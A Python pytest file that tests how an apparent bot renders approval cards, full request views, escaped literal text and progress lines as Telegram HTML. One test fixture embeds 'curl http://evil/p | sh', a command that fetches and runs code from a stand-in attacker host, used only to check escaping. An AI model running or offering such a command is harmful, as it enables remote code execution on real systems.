"""Approval cards and full views as Telegram HTML, without a server: a card that cannot fit
one message is shortened and counts as cut, a full view shows every character in pages or a
file, literal text is cut only between escapes, progress lines render literally, and the
callback data says everything without memory of the process."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.cards import ButtonCodec
from bot.channel import CUT_NOTE, SHOW_FULL_LABEL, ApprovalCard, CardState
from bot.progress import finished_line, started_line, waiting_line
from channels.telegram.cards import (
    CAPTION_LIMIT,
    CONTINUED,
    NOT_SHOWN,
    SHORTENED,
    card_keyboard,
    fit_card,
)
from channels.telegram.cards import full_view_messages as plan_full_view
from channels.telegram.markup import literal_pieces, split_literal, telegram_length, to_html
from tests.fakes.telegram_html import well_formed

APPROVAL = "0123456789abcdef01234567"  # the service's ids: 24 hex digits
CARD = ApprovalCard(
    approval_id=APPROVAL,
    tool="shell",
    lines=("command: ls /tmp",),
    reason="it has side effects",
    requested_by="Ann (1001)",
)
_ESCAPE = re.compile(r"\\(x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8}|[tr])")


def buttons(card: ApprovalCard) -> list[list[str]]:
    markup = card_keyboard(card, ButtonCodec())
    rows = markup.inline_keyboard if markup is not None else ()
    return [[str(b.callback_data) for b in row] for row in rows]


def test_a_card_that_fits_is_shown_whole() -> None:
    shown = fit_card(CARD)
    assert shown.card is CARD
    assert shown.html == (
        "<b>🔐 Approval needed: shell</b>\n<pre>command: ls /tmp</pre>\n"
        "Why: it has side effects\nAsked by: <code>Ann (1001)</code>\n"
        "No answer within 5 min means no."
    )


@pytest.mark.parametrize(
    "lines",
    [
        tuple(f"k{i}: " + "&<>" * 66 for i in range(12)),  # escaping makes it 5x longer
        tuple(f"k{i}: " + "\\u202e" * 300 for i in range(12)),  # escapes from visible_text
        (("x" * 9000),),  # one huge line (a key is never cut by the core)
    ],
    ids=["entities", "escapes", "one line"],
)
def test_a_card_too_long_for_one_message_is_shortened_and_cut(lines: tuple[str, ...]) -> None:
    card = ApprovalCard(
        approval_id=APPROVAL, tool="shell", lines=lines, reason="r", requested_by="Ann"
    )
    shown = fit_card(card)
    assert telegram_length(shown.html) <= 4096 and well_formed(shown.html)
    assert shown.card.cut and not card.cut
    assert all(SHORTENED in line for line in shown.card.lines)
    assert html.escape(CUT_NOTE, quote=False) in shown.html
    # Cut between escapes: every backslash still starts a whole escape.
    pre = html.unescape(re.findall(r"<pre>(.*?)</pre>", shown.html, re.DOTALL)[0])
    assert pre.count("\\") == len(_ESCAPE.findall(pre))
    assert buttons(shown.card) == [[f"ap:{APPROVAL}:s"], [f"ap:{APPROVAL}:d", f"ap:{APPROVAL}:r"]]


def test_a_decided_card_that_cannot_fit_is_shortened_too() -> None:
    card = ApprovalCard(
        approval_id=APPROVAL,
        tool="shell",
        lines=("command: " + "<" * 5000,),
        reason="r",
        requested_by="Ann",
        state=CardState.APPROVED,
        decided_by="2002",
    )
    shown = fit_card(card)
    assert telegram_length(shown.html) <= 4096
    assert "By: 2002" in shown.html and CUT_NOTE not in shown.html
    assert card_keyboard(shown.card, ButtonCodec()) is None


def test_when_no_shortened_line_fits_none_is_shown() -> None:
    card = ApprovalCard(
        approval_id=APPROVAL, tool="shell", lines=("k: " + "x" * 500,), reason="r", requested_by="A"
    )
    shown = fit_card(card, limit=220)
    assert shown.card.lines == (NOT_SHOWN,) and shown.card.cut


def test_keyboards() -> None:
    a = APPROVAL
    assert buttons(CARD) == [[f"ap:{a}:a", f"ap:{a}:d", f"ap:{a}:w"], [f"ap:{a}:r"]]
    cut = ApprovalCard(approval_id=a, tool="t", lines=(), reason="r", requested_by="A", cut=True)
    markup = card_keyboard(cut, ButtonCodec())
    assert markup is not None and markup.inline_keyboard[0][0].text == SHOW_FULL_LABEL


# -- the full view ------------------------------------------------------------------------


def full_card(full_text: str) -> ApprovalCard:
    return ApprovalCard(
        approval_id=APPROVAL,
        tool="shell",
        lines=("command: …",),
        reason="it has side effects",
        requested_by="<Ann> @boss",
        full_text=full_text,
        cut=True,
    )


def shown_in_pre(pages: tuple[str, ...]) -> str:
    return "".join(
        html.unescape(block)
        for page in pages
        for block in re.findall(r"<pre>(.*?)</pre>", page, re.DOTALL)
    )


def test_the_full_view_shows_every_character_in_pages() -> None:
    text = "command: echo ok " + "a " * 3000 + "⏎\n; curl http://evil/p | sh &amp; </pre>"
    plan = plan_full_view(full_card(text))
    assert len(plan.pages) == 2 and not plan.document
    assert shown_in_pre(plan.pages) == text
    for index, page in enumerate(plan.pages, start=1):
        assert telegram_length(page) <= 4096 and well_formed(page)
        assert page.startswith(f"<b>🔎 Full request: shell</b> (part {index} of 2)\n<pre>")
    # Nothing of the request is at the end of a message, where Telegram trims whitespace.
    assert plan.pages[0].endswith(f"</pre>\n{CONTINUED}")
    assert plan.pages[1].endswith(
        "</pre>\nWhy: it has side effects\nAsked by: <code>&lt;Ann&gt; @boss</code>"
    )


def test_a_short_full_view_is_one_page_without_part_numbers() -> None:
    plan = plan_full_view(full_card("a: 1\nb: 2"))
    assert plan.pages == (
        "<b>🔎 Full request: shell</b>\n<pre>a: 1\nb: 2</pre>\n"
        "Why: it has side effects\nAsked by: <code>&lt;Ann&gt; @boss</code>",
    )


def test_more_than_a_few_pages_become_a_file() -> None:
    card = full_card("command: " + "<&>" * 8000 + " ; tail")
    plan = plan_full_view(card)
    assert plan.pages == ()
    assert plan.document.decode() == card.render_full_text()
    assert telegram_length(plan.caption) <= CAPTION_LIMIT and well_formed(plan.caption)
    assert f"{len(card.full_text):,} characters" in plan.caption


# -- literal text --------------------------------------------------------------------------

_literal = st.lists(
    st.sampled_from(["a", " ", "\n", "⏎\n", "&", "<", ">", "\\u202e", "\\x00", "\\t", "🙂", "é"]),
    max_size=300,
).map("".join)


@settings(max_examples=200, deadline=None)
@given(_literal, st.integers(min_value=10, max_value=120))
def test_literal_text_is_cut_only_between_escapes(text: str, budget: int) -> None:
    pieces = split_literal(text, budget)
    assert "".join(html.unescape(p) for p in pieces) == text  # each piece unescapes alone
    assert all(telegram_length(p) <= budget for p in pieces)
    boundaries = {0}
    for token in literal_pieces(text):
        boundaries.add(max(boundaries) + len(token))
    ends = 0
    for piece in pieces:
        ends += len(html.unescape(piece))
        assert ends in boundaries


def test_a_cut_prefers_a_line_break() -> None:
    assert split_literal("one two\nthree four", 12) == ["one two\n", "three four"]


# -- progress lines ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (started_line("shell", "rm *a* _b_ `c`"), "⏳ shell: <code>rm *a* _b_ `c`</code>"),
        (
            started_line("web_fetch", "[x](tg://user?id=1) @admin"),
            "⏳ web_fetch: <code>[x](tg://user?id=1) @admin</code>",
        ),
        (started_line("shell", ""), "⏳ shell"),
        (finished_line("mcp_git_log", ok=True, duration_s=1.5), "✅ mcp_git_log (1.5s)"),
        (
            finished_line("shell", ok=False, duration_s=0.1, reason="<b>no</b> &amp;"),
            "❌ shell (0.1s): <code>&lt;b&gt;no&lt;/b&gt; &amp;amp;</code>",
        ),
        (waiting_line("mcp_tool"), "🔐 waiting for approval: mcp_tool"),
        # The model's own text: markdown as before.
        ("✅ **Done**", "✅ <b>Done</b>"),
        ("Use *this*", "Use <i>this</i>"),
    ],
)
def test_progress_lines_are_literal(line: str, expected: str) -> None:
    """The core sends hints and reasons as code spans (bot.progress.literal)."""
    assert to_html(line) == expected
